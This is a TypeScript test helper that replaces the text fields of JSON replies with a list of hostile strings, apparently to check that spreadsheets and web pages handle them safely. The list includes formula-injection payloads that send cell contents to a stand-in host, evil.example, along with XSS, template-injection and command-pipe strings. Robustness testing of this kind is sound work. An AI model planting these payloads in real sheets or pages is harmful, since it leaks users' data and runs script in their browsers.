import { isJsonObject, type Json, type JsonObject } from "./wire";

/** Texts that would be executed, leak data or change type if a sheet or a page interpreted them. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=IMPORTXML("https://evil.example/?"&A1)',
  "<img src=x onerror=alert(1)>",
  '+HYPERLINK("https://evil.example/?"&A1,"click")',
  "-1+1|cmd",
  '@SUM(A1:A9)&IMAGE("https://evil.example")',
  "'=1+1",
  "\t=1+1",
  "\r=1+1",
  "11-50",
  "00123",
  "1e5",
  "</script><script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "javascript:alert(1)",
  "=".repeat(60_000),
  "\u202Eexample\u0000\uD800",
];

/** Identifiers are kept: a test of hostile text is not a test of mixed-up companies. */
const KEPT = new Set(["uuid", "company_uuid", "job_id", "status"]);

/** Replaces every text of a reply with a hostile one, in turn; keys, numbers and identifiers stay. */
export function withHostileText(body: JsonObject): JsonObject {
  let next = 0;
  const spoil = (value: Json | undefined): Json | undefined => {
    if (typeof value === "string") return HOSTILE_TEXTS[next++ % HOSTILE_TEXTS.length];
    if (Array.isArray(value)) return value.map((element: Json) => spoil(element) ?? null);
    if (isJsonObject(value)) return spoilObject(value);
    return value;
  };
  const spoilObject = (object: JsonObject): JsonObject =>
    Object.fromEntries(
      Object.entries(object).map(([key, value]) => [key, KEPT.has(key) ? value : spoil(value)]),
    );
  return spoilObject(body);
}
